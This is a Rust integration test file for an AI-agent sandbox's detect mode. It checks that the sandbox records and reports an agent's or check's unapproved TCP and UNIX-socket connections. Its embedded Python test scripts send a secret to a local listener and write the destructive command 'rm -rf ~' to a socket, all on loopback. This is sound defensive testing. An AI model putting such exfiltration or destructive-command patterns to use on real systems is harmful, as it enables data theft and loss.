//! Detect mode sees the network (`[sandbox] mode = "detect"`): nothing
//! stops the agent, but what it reaches that the other modes would have
//! stopped is recorded as what it was. An agent (a script) sends a secret
//! over TCP to a listener the test opened on 127.0.0.1 (not in the network
//! list), writes a command to a named UNIX socket outside its worktree and
//! to an abstract one, and talks to an allowed host: the first three are
//! each in `AgentFinished.network_seen`, a line of `retry-run report` and
//! the next attempt's prompt; the allowed one is not. Nothing fails for
//! it: the listeners got what was sent, and the outcome is the checks'.

use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde_json::Value;

use crate::support::record::{check_event, events, of_type, outcomes, prompt};
use crate::support::{FakeAgent, Run, TestEnv};

/// What each listener received, by name.
type Received = Arc<Mutex<Vec<(String, Vec<u8>)>>>;

/// Reads every connection `accept` gives, as `name`, into `got`.
fn serve<S: std::io::Read + Send + 'static>(
    name: &str,
    got: &Received,
    mut accept: impl FnMut() -> std::io::Result<S> + Send + 'static,
) {
    let (name, got) = (name.to_string(), Arc::clone(got));
    std::thread::spawn(move || {
        while let Ok(mut conn) = accept() {
            let mut bytes = Vec::new();
            let _ = conn.read_to_end(&mut bytes);
            got.lock().expect("lock").push((name.clone(), bytes));
        }
    });
}

/// The attack, in Python: TCP to `tcp` (a secret), TCP to `allowed`, a
/// command to the named socket and to the abstract one.
const ATTACK: &str = r#"import socket, sys
tcp, allowed, path, name = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
s = socket.create_connection(("127.0.0.1", tcp)); s.sendall(b"the-secret"); s.close()
a = socket.create_connection(("127.0.0.1", allowed)); a.sendall(b"hello"); a.close()
u = socket.socket(socket.AF_UNIX); u.connect(path); u.sendall(b"rm -rf ~"); u.close()
b = socket.socket(socket.AF_UNIX); b.connect("\0" + name); b.sendall(b"abstract"); b.close()
"#;

/// A repository in detect mode whose network list allows 127.0.0.1 on
/// `allowed`; its check passes once the agent wrote `agent` into the app.
fn repo(env: &TestEnv, allowed: u16) -> PathBuf {
    let toml = format!(
        "max_attempts = 2\n\
         [sandbox]\nmode = \"detect\"\nnetwork = [\"127.0.0.1:{allowed}\"]\n\
         [retry]\nbaseline = \"off\"\n\
         [[check]]\nname = \"marker\"\nkind = \"test\"\nrun = \"grep -q agent src/app.txt\"\n"
    );
    env.repo("repo").file("src/app.txt", "value = 1\n").file("retry-run.toml", toml).commit()
}

/// The `network_seen` of attempt `n`'s `AgentFinished`, as (kind, what).
fn seen(r: &Path, task: &str, n: u64) -> Vec<(String, String)> {
    let ev = events(r, task);
    let finished: Vec<&Value> = of_type(&ev, "AgentFinished").into_iter().filter(|e| e["attempt"] == n).collect();
    assert_eq!(finished.len(), 1, "{ev:?}");
    finished[0]["network_seen"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|s| (s["kind"].as_str().unwrap_or("").to_string(), s["what"].as_str().unwrap_or("").to_string()))
        .collect()
}

#[test]
fn in_detect_mode_a_secret_over_tcp_and_commands_to_unix_sockets_are_recorded_as_what_they_were() {
    if !Path::new("/usr/bin/python3").exists() && which("python3").is_none() {
        eprintln!("SKIPPED: no python3");
        return;
    }
    let env = TestEnv::new();
    let got: Received = Arc::default();
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let allowed = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let (tcp_port, allowed_port) = (tcp.local_addr().expect("addr").port(), allowed.local_addr().expect("addr").port());
    serve("tcp", &got, move || tcp.accept().map(|(c, _)| c));
    serve("allowed", &got, move || allowed.accept().map(|(c, _)| c));
    let path = env.path("cmd.sock");
    let named = UnixListener::bind(&path).expect("named socket");
    serve("named", &got, move || named.accept().map(|(c, _)| c));
    let name = format!("retry-run-it-{}-{tcp_port}", std::process::id());
    let bus = UnixListener::bind_addr(&SocketAddr::from_abstract_name(name.as_bytes()).expect("name"))
        .expect("abstract socket");
    serve("abstract", &got, move || bus.accept().map(|(c, _)| c));
    let script = env.write("attack.py", ATTACK);
    let r = repo(&env, allowed_port);
    let attack = format!("python3 {} {tcp_port} {allowed_port} {} {name}", script.display(), path.display());
    let tcp_what = format!("TCP connect to 127.0.0.1:{tcp_port} by python");
    let agent = env.agent(
        FakeAgent::new()
            .sh(&attack)
            .append("src/other.txt", "first try\n")
            .next_call()
            .expect_prompt(&tcp_what)
            .expect_prompt("a confined run refuses them")
            .append("src/app.txt", "agent\n"),
    );
    let out = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Spy"])));
    out.assert_code(0);
    // Nothing was stopped, and nothing failed for it: the first attempt
    // failed its check, the second (told) succeeded.
    assert_eq!(outcomes(&r, "spy"), ["CHECK_FAILURE", "SUCCESS"]);
    let received = got.lock().expect("lock").clone();
    for (who, what) in
        [("tcp", &b"the-secret"[..]), ("allowed", b"hello"), ("named", b"rm -rf ~"), ("abstract", b"abstract")]
    {
        assert!(received.iter().any(|(n, b)| n == who && b == what), "{who} got {what:?}: {received:?}");
    }
    let first = seen(&r, "spy", 1);
    let has = |kind: &str, what: &str| first.iter().any(|(k, w)| k == kind && w.starts_with(what));
    assert!(has("network", &tcp_what), "{first:?}");
    assert!(has("unix-socket", &format!("UNIX stream connect to {} by python", path.display())), "{first:?}");
    assert!(has("unix-socket", &format!("UNIX stream connect to the abstract socket @{name} by python")), "{first:?}");
    assert!(!first.iter().any(|(_, w)| w.contains(&format!(":{allowed_port} "))), "the allowed host: {first:?}");
    assert!(seen(&r, "spy", 2).is_empty(), "the second attempt reached nothing");
    // The next attempt was told, in words.
    let told = prompt(&r, "spy", 2);
    assert!(told.contains(&format!("- network: {tcp_what}")), "{told}");
    assert!(told.contains(&format!("- unix-socket: UNIX stream connect to {}", path.display())), "{told}");
    // The report: one line each.
    let report = env.run(&r, &["report", "spy"]).assert_code(0).stdout.clone();
    let line = "- Seen in detect mode, not stopped (the other modes refuse it): ";
    assert!(report.contains(&format!("{line}network: {tcp_what}")), "{report}");
    assert!(report.contains(&format!("{line}unix-socket: UNIX stream connect to {}", path.display())), "{report}");
    assert!(
        report.contains(&format!("{line}unix-socket: UNIX stream connect to the abstract socket @{name}")),
        "{report}"
    );
    assert!(!report.contains(&format!("127.0.0.1:{allowed_port}")), "{report}");
    // The log holds the allowed one too, recorded, not reported.
    let log = std::fs::read_to_string(r.join(".git/retry-run/tasks/spy/attempts/1/network-agent.jsonl")).expect("log");
    assert!(log.contains(&format!("\"seen\":\"allowed\",\"what\":\"TCP connect to 127.0.0.1:{allowed_port}")), "{log}");
}

/// A check that sends the secret to `sys.argv[1]` on 127.0.0.1, then
/// passes once the agent wrote `agent` into the app.
const LEAK: &str = r#"import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); s.sendall(b"the-check-secret"); s.close()
"#;

/// An agent's servers: one on every address (an ephemeral port), one on
/// loopback, each listening until the other has been made.
const SERVE: &str = r#"import socket
a = socket.socket(); a.bind(("0.0.0.0", 0)); a.listen()
b = socket.socket(); b.bind(("127.0.0.1", 0)); b.listen()
print("serving on", a.getsockname()[1], b.getsockname()[1])
a.close(); b.close()
"#;

/// The `network_seen` of attempt `n`'s `CheckFinished` of `check`, as
/// (kind, what).
fn check_seen(r: &Path, task: &str, n: u64, check: &str) -> Vec<(String, String)> {
    let e = check_event(r, task, n, check);
    assert!(!e.is_null(), "{n}: no CheckFinished of {check}");
    e["network_seen"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|s| (s["kind"].as_str().unwrap_or("").to_string(), s["what"].as_str().unwrap_or("").to_string()))
        .collect()
}

/// Checks run code the agent wrote: in detect mode a check that sends a
/// secret over TCP (its network list is empty) is recorded in its
/// `CheckFinished`, named in the report and told to the next attempt; an
/// agent's server on every address is recorded as a finding, one on
/// loopback is not.
#[test]
fn in_detect_mode_a_check_s_connections_and_an_agent_s_server_on_every_address_are_recorded() {
    if !Path::new("/usr/bin/python3").exists() && which("python3").is_none() {
        eprintln!("SKIPPED: no python3");
        return;
    }
    let env = TestEnv::new();
    let got: Received = Arc::default();
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = tcp.local_addr().expect("addr").port();
    serve("tcp", &got, move || tcp.accept().map(|(c, _)| c));
    let leak = env.write("leak.py", LEAK);
    let servers = env.write("serve.py", SERVE);
    let toml = format!(
        "max_attempts = 2\n\
         [sandbox]\nmode = \"detect\"\n\
         [retry]\nbaseline = \"off\"\n\
         [[check]]\nname = \"leak\"\nkind = \"test\"\nrun = \"python3 {} {port} && grep -q agent src/app.txt\"\n",
        leak.display()
    );
    let r = env.repo("repo").file("src/app.txt", "value = 1\n").file("retry-run.toml", toml).commit();
    let check_what = format!("TCP connect to 127.0.0.1:{port} by python");
    let agent = env.agent(
        FakeAgent::new()
            .sh(&format!("python3 {}", servers.display()))
            .append("src/other.txt", "first try\n")
            .next_call()
            .expect_prompt(&format!("- check `leak`: network: {check_what}"))
            .expect_prompt("- network: TCP listen on 0.0.0.0:")
            .expect_prompt("listen only on 127.0.0.1")
            .append("src/app.txt", "agent\n"),
    );
    let out = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Leak"])));
    out.assert_code(0);
    assert_eq!(outcomes(&r, "leak"), ["CHECK_FAILURE", "SUCCESS"]);
    let received = got.lock().expect("lock").clone();
    assert!(received.iter().filter(|(_, b)| b == b"the-check-secret").count() == 2, "nothing stopped: {received:?}");
    for n in [1, 2] {
        let seen = check_seen(&r, "leak", n, "leak");
        assert!(seen.iter().any(|(k, w)| k == "network" && w.starts_with(&check_what)), "{n}: {seen:?}");
    }
    // The agent's server on every address, not the one on loopback.
    let agent_seen = seen(&r, "leak", 1);
    assert!(
        agent_seen.iter().any(|(k, w)| k == "network" && w.starts_with("TCP listen on 0.0.0.0:")),
        "{agent_seen:?}"
    );
    assert!(!agent_seen.iter().any(|(_, w)| w.contains("127.0.0.1")), "{agent_seen:?}");
    let log = std::fs::read_to_string(r.join(".git/retry-run/tasks/leak/attempts/1/network-agent.jsonl")).expect("log");
    assert!(log.contains("\"seen\":\"allowed\",\"what\":\"TCP listen on 127.0.0.1:"), "recorded, not reported: {log}");
    // The report: one line each, naming the check.
    let report = env.run(&r, &["report", "leak"]).assert_code(0).stdout.clone();
    let line = "- Seen in detect mode, not stopped (the other modes refuse it): ";
    assert!(report.contains(&format!("{line}check `leak`: network: {check_what}")), "{report}");
    assert!(report.contains(&format!("{line}network: TCP listen on 0.0.0.0:")), "{report}");
    assert!(!report.contains("TCP listen on 127.0.0.1"), "{report}");
}

/// `retry-run sandbox` as run starts it for detect mode's agent: observed
/// as root without `no_new_privs` (a setuid program keeps working), and,
/// nested in another observed one (whose filter's listener is taken), the
/// inner one runs its command unobserved and says why, while the outer one
/// still sees what that command does.
#[test]
fn an_observed_command_keeps_setuid_as_root_and_one_nested_in_another_runs_unobserved() {
    let env = TestEnv::new();
    let dir = env.path("work");
    std::fs::create_dir_all(&dir).expect("dir");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    let got: Received = Arc::default();
    serve("tcp", &got, move || listener.accept().map(|(c, _)| c));
    let exe = env.retry_run_exe();
    let (outer, inner) = (env.path("outer.jsonl"), env.path("inner.jsonl"));
    // The line `run` starts detect mode's agent with: the supervisor (here
    // `retry-run supervisor`) with a request for no layers, observed.
    let observed = |log: &Path, argv: Vec<String>| -> Vec<String> {
        let request = serde_json::json!({
            "argv": argv, "dir": ".", "layers": "none", "reap": true,
            "network": {"observe": true}, "log": log,
        });
        vec!["supervisor".into(), "--request".into(), request.to_string()]
    };
    let command = vec![
        "sh".into(),
        "-c".into(),
        format!(
            "grep NoNewPrivs /proc/self/status; python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}))'"
        ),
    ];
    let inner_line: Vec<String> = std::iter::once(exe.display().to_string()).chain(observed(&inner, command)).collect();
    let argv = observed(&outer, inner_line);
    let out = Run::of(env.retry_run(&dir).args(&argv));
    out.assert_code(0);
    // SAFETY: getuid cannot fail.
    if unsafe { libc::getuid() } == 0 {
        assert!(out.stdout.contains("NoNewPrivs:\t0"), "root's setuid programs keep working: {}", out.stdout);
    } else {
        assert!(out.stdout.contains("NoNewPrivs:\t1"), "{}", out.stdout);
    }
    let inner_log = std::fs::read_to_string(&inner).unwrap_or_default();
    assert!(
        inner_log.contains("\"seen\":\"unobserved\"") && inner_log.contains("already installed above it"),
        "{inner_log}"
    );
    let outer_log = std::fs::read_to_string(&outer).unwrap_or_default();
    assert!(
        outer_log.contains(&format!("\"seen\":\"network\",\"what\":\"TCP connect to 127.0.0.1:{port} by ")),
        "{outer_log}"
    );
}

/// The program `name` on PATH.
fn which(name: &str) -> Option<PathBuf> {
    std::env::var_os("PATH").and_then(|p| std::env::split_paths(&p).map(|d| d.join(name)).find(|f| f.is_file()))
}
